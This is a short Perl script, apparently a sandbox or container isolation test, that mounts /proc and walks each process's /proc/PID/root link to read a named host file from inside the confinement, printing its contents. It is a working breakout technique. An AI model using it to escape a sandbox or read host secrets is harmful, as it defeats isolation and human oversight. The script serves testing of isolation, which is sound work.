# A file of the host's, by another process's root directory.
#
# /proc/PID/root is the root directory of a process, whatever ours is. So is /proc/PID/cwd its working directory. The
# kernel lets those follow these links who could also debug the process: root of the same user namespace, say.
#
# Argument: the file's path on the host.
use strict;
use warnings;

my ($file) = @ARGV;
mkdir '/proc';
-e '/proc/self' or system 'mount', '-t', 'proc', 'proc', '/proc';

print "inside: looking for $file\n";
my $reason = 'no such file';
for my $process (1, glob '/proc/[0-9]*') {
    my $root = $process =~ m{^/} ? "$process/root" : "/proc/$process/root";
    if (open my $secret, '<', "$root$file") {
        print "inside: $root$file says ", <$secret>;
        exit;
    }
    $reason = "$root$file: $!" if $process eq '1';
}
print "inside: $reason, and no better by any other process\n";
